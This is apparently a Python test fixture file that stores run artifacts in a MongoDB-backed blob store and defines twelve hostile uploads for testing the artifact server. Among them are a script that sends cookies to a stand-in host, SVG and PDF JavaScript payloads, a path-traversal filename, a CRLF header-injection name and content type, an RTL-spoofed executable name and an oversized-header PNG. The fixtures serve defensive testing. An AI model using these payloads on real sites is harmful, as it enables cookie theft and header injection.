"""Artifacts in the database as the courier stores them, and twelve that mean harm."""

from __future__ import annotations

import struct
import zlib
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

from cloister.observer.blob_upload import BlobSource, BlobUpload
from cloister.observer.blobs import Digests, digest_stream
from pymongo.database import Database


def store_blob(
    database: Database[dict[str, Any]], path: Path, digests: Digests, filename: str, content_type: str | None
) -> Any:
    """Store the file at `path` unless its bytes are stored already, and return the blob's id."""
    return BlobUpload(database, BlobSource(path, digests, filename, content_type)).advance()


def keep_artifact(
    database: Database[dict[str, Any]],
    folder: Path,
    name: str,
    content: bytes,
    *,
    content_type: str | None = None,
    run_id: int = 1,
) -> Any:
    """Store `content` under `name` for a run; returns the blob's id."""
    path = folder / "artifact-content"
    path.write_bytes(content)
    with path.open("rb") as stream:
        digests = digest_stream(stream)
    file_id = store_blob(database, path, digests, name, content_type)
    entry = {
        "name": name,
        "file_id": file_id,
        "sha256": digests.sha256,
        "size": digests.size,
        "content_type": content_type,
        "logged_at": datetime.now(timezone.utc),
    }
    database["runs"].update_one({"_id": run_id}, {"$push": {"artifacts": entry}})
    return file_id


def make_png(width: int, height: int, *, claimed: tuple[int, int] | None = None) -> bytes:
    """A grey PNG; with `claimed` its header lies about its size."""
    rows = b"".join(b"\0" + bytes([120]) * width for _ in range(height))
    claimed_width, claimed_height = claimed or (width, height)
    header = struct.pack(">IIBBBBB", claimed_width, claimed_height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


SCRIPT = b"<script>document.title='PWNED';fetch('http://192.0.2.1/'+document.cookie);alert(1)</script>"
PNG = make_png(16, 12)

HOSTILE_ARTIFACTS: tuple[tuple[str, bytes, str | None], ...] = (
    ("page.html", b"<!doctype html>" + SCRIPT, "text/html"),
    (
        "drawing.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>",
        "image/svg+xml",
    ),
    ("paper.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "application/pdf"),
    ("mail.mhtml", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT, "multipart/related"),
    ("both.png", PNG + SCRIPT, "text/html"),
    ("feed.xml", b"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</x>", "text/xml"),
    ("../../etc/passwd", b"root:x:0:0\n", "text/plain"),
    ("a\r\nSet-Cookie: stolen=1\r\n\r\n.txt", b"lines in a name\n", "text/plain; charset=utf-8\r\nX-Own: 1"),
    ("n" * 4000 + ".txt", b"a long name\n", "text/plain"),
    ("", b"no name\n", "text/plain"),
    ("\u202egnp.exe<img src=x onerror=alert(1)>.png", SCRIPT, "image/png"),
    ("huge.png", make_png(4, 4, claimed=(50_000, 50_000)), "image/png"),
)
